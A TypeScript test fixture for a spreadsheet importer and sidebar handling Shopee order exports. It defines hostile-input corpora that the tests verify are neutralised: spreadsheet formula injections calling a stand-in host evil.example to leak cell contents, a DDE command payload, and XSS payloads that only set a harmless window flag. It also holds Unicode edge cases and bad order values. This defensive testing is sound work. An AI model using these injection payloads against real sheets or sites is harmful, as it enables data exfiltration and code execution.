// The hostile corpus: what marketplace exports (where anyone chooses their username, address and product
// names) and careless pasting can put into a sheet. Every hostile string here is something a buyer or a
// seller can really type; markup that would run sets window[PWNED], which the sidebar tests watch.
import type { CellValue, Grid } from '../../src/core/types';

/** The window flag any executed payload sets (it must stay unset). */
export const PWNED = '__kenaliPwned';
const run = `window.${PWNED}=1`;

/** Strings Sheets would turn into a formula (or a number) if written into an automatic cell. */
export const FORMULA_TEXTS = [
  '=IMPORTXML("http://evil.example/x","//a")',
  '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
  '=IMAGE("http://evil.example/p.png")',
  '=cmd',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  "=cmd|' /C calc'!A0",
  "'=quoted",
  '+62 812-3456-7890',
  '007',
  '1.5',
  '-',
  '=',
];

/** Markup and script that a sidebar using innerHTML (or a template) would execute. */
export const MARKUP_TEXTS = [
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"'><svg onload="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<a href="javascript:${run}">klik</a>`,
  `<details open ontoggle="${run}">`,
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;',
  '<!-- komentar',
  '<b>tebal</b>',
];

/** Scripts, emoji, direction overrides, zero-width and combining characters, quotes. */
export const SCRIPT_TEXTS = [
  'مرحبا بالعالم',
  'محمد‎ علي',
  '你好，世界',
  'สวัสดีครับ ร้านค้า',
  'Z̷̢̛a̶̡l̵̨g̸o̷ ̵t̶e̸x̷t̶',
  'e\u0301 vs é',
  '\u202Egnp.exe',
  'a\u200Bb\u200Cc\u200Dd\uFEFF',
  '👨‍👩‍👧‍👦 keluarga 🛍️🔥',
  'Ñandú Ōsaka Łódź',
  '"double" \'single\' `back` “curly”',
  'back\\slash \\n not a newline',
  'pipe|in|the|name',
  'line one\nline two',
  '  leading and trailing spaces  ',
];

export const HOSTILE_TEXTS = [...FORMULA_TEXTS, ...MARKUP_TEXTS, ...SCRIPT_TEXTS];

/** Sheets' per-cell maximum: a value of exactly this size fits, one more character does not. */
export const CELL_MAX = 50_000;
export const huge = (seed: string, length = CELL_MAX) =>
  seed.repeat(Math.ceil(length / seed.length)).slice(0, length);

// ---- a Shopee (Indonesian) order export, one row per order line ----------------------------------------

export const SHOPEE_HEADER = [
  'No. Pesanan',
  'Status Pesanan',
  'Waktu Pesanan Dibuat',
  'Nama Produk',
  'Nomor Referensi SKU',
  'Nama Variasi',
  'Harga Setelah Diskon',
  'Jumlah',
  'Total Pembayaran',
  'Username (Pembeli)',
  'Alamat Pengiriman',
] as const;

export type Column = (typeof SHOPEE_HEADER)[number];
export type Line = Record<Column, CellValue>;

export const col = (name: Column) => SHOPEE_HEADER.indexOf(name);

/** A well-formed line of order `sn` (the n-th buyer), with `over` replacing any cell. */
export function line(sn: string, n: number, over: Partial<Line> = {}): CellValue[] {
  const base: Line = {
    'No. Pesanan': sn,
    'Status Pesanan': 'Selesai',
    'Waktu Pesanan Dibuat': `2024-06-${String(1 + (n % 29)).padStart(2, '0')} ${String(n % 24).padStart(2, '0')}:15`,
    'Nama Produk': `Kaos Polos ${n}`,
    'Nomor Referensi SKU': `KP-${n}`,
    'Nama Variasi': 'Hitam, XL',
    'Harga Setelah Diskon': 'Rp 75.000',
    Jumlah: '2',
    'Total Pembayaran': 'Rp 150.000',
    'Username (Pembeli)': `pembeli${n}`,
    'Alamat Pengiriman': `Jl. Melati No. ${n}, Bandung`,
  };
  const merged = { ...base, ...over };
  return SHOPEE_HEADER.map((h) => merged[h]);
}

export function exportGrid(rows: CellValue[][], header: readonly string[] = SHOPEE_HEADER): Grid {
  return [[...header], ...rows];
}

// ---- values the importer must refuse (one Problem each, naming the column) ------------------------------

export interface BadValue {
  column: Column;
  value: CellValue;
  /** What the seller is told, as a piece of the reason. */
  why: RegExp;
}

export const BAD_VALUES: BadValue[] = [
  { column: 'No. Pesanan', value: '', why: /nomor pesanan kosong/ },
  { column: 'No. Pesanan', value: '   \t ', why: /nomor pesanan kosong/ },
  { column: 'Username (Pembeli)', value: '', why: /username pembeli kosong/ },
  { column: 'Username (Pembeli)', value: ' \u00a0\t', why: /username pembeli kosong/ },
  { column: 'Waktu Pesanan Dibuat', value: '2024-02-30 10:00', why: /tanggal tidak valid/ },
  { column: 'Waktu Pesanan Dibuat', value: '2024-05-01 25:61', why: /jam tidak valid/ },
  { column: 'Waktu Pesanan Dibuat', value: '0001-01-01 10:00', why: /tahun di luar rentang/ },
  { column: 'Waktu Pesanan Dibuat', value: '9999-12-31 23:59', why: /tahun di luar rentang/ },
  { column: 'Waktu Pesanan Dibuat', value: 2958465, why: /bukan tanggal yang masuk akal/ },
  { column: 'Waktu Pesanan Dibuat', value: '=NOW()', why: /format tanggal tidak dikenali/ },
  { column: 'Waktu Pesanan Dibuat', value: '', why: /kosong/ },
  { column: 'Total Pembayaran', value: -5000, why: /tidak boleh negatif/ },
  { column: 'Total Pembayaran', value: 'Rp -5.000', why: /tidak boleh negatif/ },
  { column: 'Total Pembayaran', value: 1e20, why: /terlalu besar/ },
  { column: 'Total Pembayaran', value: '1e20', why: /tidak terbaca/ },
  { column: 'Total Pembayaran', value: 'Rp 1.2.3', why: /pemisah ribuan\/desimal tidak jelas|tidak terbaca/ },
  { column: 'Total Pembayaran', value: 'NaN', why: /tidak terbaca/ },
  { column: 'Total Pembayaran', value: 'Infinity', why: /tidak terbaca/ },
  { column: 'Total Pembayaran', value: '=1+1', why: /tidak terbaca/ },
  { column: 'Total Pembayaran', value: '', why: /kosong/ },
  { column: 'Jumlah', value: '0', why: /bilangan bulat positif/ },
  { column: 'Jumlah', value: '-1', why: /bilangan bulat positif/ },
  { column: 'Jumlah', value: '1.5', why: /bilangan bulat positif/ },
  { column: 'Jumlah', value: 'dua', why: /bilangan bulat positif/ },
  { column: 'Harga Setelah Diskon', value: '-75000', why: /tidak boleh negatif/ },
  { column: 'Harga Setelah Diskon', value: 'gratis', why: /tidak terbaca/ },
];
